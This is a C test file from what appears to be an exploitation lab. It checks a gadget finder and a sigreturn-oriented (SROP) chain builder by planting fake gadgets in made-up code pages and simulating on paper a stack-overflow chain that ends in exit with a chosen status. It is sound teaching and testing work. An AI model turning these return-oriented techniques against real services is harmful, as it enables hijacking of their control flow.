/* The attack lab's own checks of its payload builder: gadgets at made-up places, and the chain they make, run on paper. */
#include "attack.h"

/*
 * find_gadgets and build_srop_exit must work from the bytes and the
 * gadgets they are given, wherever those are: the page's gadgets differ
 * between compilers and the vDSO's move every run. These checks give them
 * pages of made-up code at made-up addresses and follow the chain the way
 * the service's CPU would (the lab's grader reads their lines).
 */
#define TRIES		8
#define RET_AT		0x48	/* the service's saved return address, from its body (docs/attack.md) */
#define NR_READ		0
#define NR_EXIT_	60

static uint64_t seed;

static uint64_t next(void)
{
	seed = seed * 6364136223846793005ul + 1442695040888963407ul;
	return seed >> 17;
}

/* A made-up page: 0x90 (nop) everywhere but the pieces, at random offsets. */
struct made_up {
	unsigned char bytes[PAGE];
	unsigned long base;
	size_t ret, zero_rax, syscall;	/* offsets of the pieces to find */
	int pops;
};

static void put(unsigned char *p, const char *bytes, size_t n)
{
	memcpy(p, bytes, n);
}

/*
 * The page at base, or at a random user address (0). The pieces, each in
 * its own 256-byte slot so none overlaps: a syscall
 * whose pops end in something else (not a gadget), a syscall with more
 * pops than the best, the best one with `pops` pops (some of r8..r15),
 * "xor eax,eax; ret", a lone ret; each at a random place in its slot.
 */
static void make_page(struct made_up *m, int pops, unsigned long base)
{
	static const char pop_r12[] = "\x41\x5c", pop_rbx[] = "\x5b";
	size_t slot[6], off, first = next() % 16;
	int i;

	memset(m->bytes, 0x90, PAGE);
	for (i = 0; i < 6; i++)		/* 3 is prime to 16: six different slots */
		slot[i] = (first + 3 * i) % 16 * 256 + 16 + next() % 200;
	m->base = base ? base : (0x7f0000000000ul | (next() << 12)) & 0x7ffffffff000ul;
	put(m->bytes + slot[0], "\x0f\x05\x5b\x90\xc3", 5);		/* syscall; pop; nop: no */
	put(m->bytes + slot[1], "\x0f\x05\x5b\x5d\x41\x5e\x41\x5f\x5e\xc3", 10);	/* 6 pops */
	off = slot[2];
	m->syscall = off;
	put(m->bytes + off, "\x0f\x05", 2);
	off += 2;
	for (i = 0; i < pops; i++) {
		if (i & 1) {
			put(m->bytes + off, pop_r12, 2);
			off += 2;
		} else {
			put(m->bytes + off, pop_rbx, 1);
			off += 1;
		}
	}
	m->bytes[off] = 0xc3;
	m->pops = pops;
	m->zero_rax = slot[3];
	put(m->bytes + slot[3], "\x31\xc0\xc3", 3);
	m->ret = slot[4];
	m->bytes[slot[4]] = 0xc3;
}

/* Does g name the made-up page's pieces? Any c3 is a ret. 0, or why not. */
static const char *found_right(const struct made_up *m, const struct gadgets *g)
{
	static char why[160];
	unsigned long end = m->base + PAGE;

	if (g->ret < m->base || g->ret >= end || m->bytes[g->ret - m->base] != 0xc3)
		snprintf(why, sizeof(why), "ret at %lx is not a c3 of the page at %lx", g->ret, m->base);
	else if (g->zero_rax != m->base + m->zero_rax)
		snprintf(why, sizeof(why), "xor eax,eax; ret at %lx, not %lx", g->zero_rax, m->base + m->zero_rax);
	else if (g->syscall != m->base + m->syscall || g->syscall_pops != m->pops)
		snprintf(why, sizeof(why), "syscall at %lx with %d pops, not %lx with %d (the fewest pops, then ret)",
			 g->syscall, g->syscall_pops, m->base + m->syscall, m->pops);
	else
		return NULL;
	return why;
}

static void check_find(void)
{
	static struct made_up m;
	struct gadgets g;
	const char *why = NULL;
	int i;

	for (i = 0; i < TRIES && !why; i++) {
		make_page(&m, i % 4, i & 1 ? VSYSCALL_PAGE : 0);
		if (find_gadgets(m.bytes, PAGE, m.base, &g))
			why = "find_gadgets found no gadgets in a page that has all three";
		else
			why = found_right(&m, &g);
	}
	if (!why) {
		m.bytes[m.zero_rax + 1] = 0x90;		/* no xor eax,eax; ret left */
		if (!find_gadgets(m.bytes, PAGE, m.base, &g))
			why = "find_gadgets says yes to a page without xor eax,eax; ret";
	}
	printf("attack: check find_gadgets on made-up pages: %s%s\n", why ? "FAILED: " : "ok", why ? why : "");
}

/*
 * The service's CPU after read_request's ret, on paper: rsp at the body's
 * RET_AT, rdi, rsi, rdx those of its read, rax what it read. Each word
 * popped is a gadget of g, or the chain is lost. NULL when it reaches
 * exit(CHOSEN_STATUS) through rt_sigreturn, else why not.
 */
static const char *run_chain(const unsigned char *req, size_t len, const struct gadgets *g)
{
	static char why[160];
	uint32_t body;
	size_t sp = RET_AT, steps;
	unsigned long pc, rax, rdx;
	struct ucontext64 uc;

	if (len < 4)
		return "no request";
	memcpy(&body, req, 4);
	if (4 + (size_t)body > len)
		return "the length says more than the request holds";
	rax = body;
	rdx = body;
	for (steps = 0; steps < 64; steps++) {
		if (sp + 8 > body)
			return "the chain runs off the end of the body";
		memcpy(&pc, req + 4 + sp, 8);
		sp += 8;
		if (pc == g->ret)
			continue;
		if (pc == g->zero_rax) {
			rax = NR_READ;
			continue;
		}
		if (pc != g->syscall) {
			snprintf(why, sizeof(why), "ret to %lx, which is none of the gadgets given", pc);
			return why;
		}
		if (rax == NR_READ) {		/* read(fd, body, rdx): the bytes after the body */
			rax = len - 4 - body < rdx ? len - 4 - body : rdx;
			sp += 8 * g->syscall_pops;
			continue;
		}
		if (rax != NR_RT_SIGRETURN) {
			snprintf(why, sizeof(why), "syscall with rax %lu, not rt_sigreturn (%d)", rax, NR_RT_SIGRETURN);
			return why;
		}
		if (sp + sizeof(uc) > body)
			return "rt_sigreturn's frame is not all in the body";
		memcpy(&uc, req + 4 + sp, sizeof(uc));
		if (uc.mc.cs != FRAME_CS || uc.mc.ss != FRAME_SS) {
			snprintf(why, sizeof(why), "rt_sigreturn loads cs %#x ss %#x: not 64-bit user code (%#x, %#x)",
				 uc.mc.cs, uc.mc.ss, FRAME_CS, FRAME_SS);
			return why;
		}
		if (uc.mc.rip != g->syscall || uc.mc.rax != NR_EXIT_ || uc.mc.rdi != CHOSEN_STATUS) {
			snprintf(why, sizeof(why), "rt_sigreturn loads rip %lx rax %lu rdi %lu: not exit(%d) at the syscall",
				 uc.mc.rip, uc.mc.rax, uc.mc.rdi, CHOSEN_STATUS);
			return why;
		}
		return NULL;
	}
	return "more than 64 words of chain";
}

static void check_chain(void)
{
	static unsigned char req[4096];
	static struct made_up m;
	struct gadgets g;
	const char *why = NULL;
	size_t len;
	int i;

	for (i = 0; i < TRIES && !why; i++) {
		make_page(&m, (i + 1) % 4, i & 1 ? VSYSCALL_PAGE : 0);
		g = (struct gadgets){ m.base + m.ret, m.base + m.zero_rax, m.base + m.syscall, m.pops };
		len = build_srop_exit(req, sizeof(req), &g);
		why = len ? run_chain(req, len, &g) : "build_srop_exit built nothing";
	}
	if (!why && build_srop_exit(req, 64, &g))
		why = "build_srop_exit wrote a request into 64 bytes, too few for it";
	printf("attack: check build_srop_exit with made-up gadgets: %s%s\n", why ? "FAILED: " : "ok",
	       why ? why : "");
}

void check_payload(void)
{
	uint32_t lo, hi;

	__asm__ volatile("rdtsc" : "=a"(lo), "=d"(hi));
	seed = (uint64_t)hi << 32 | lo;
	check_find();
	check_chain();
}
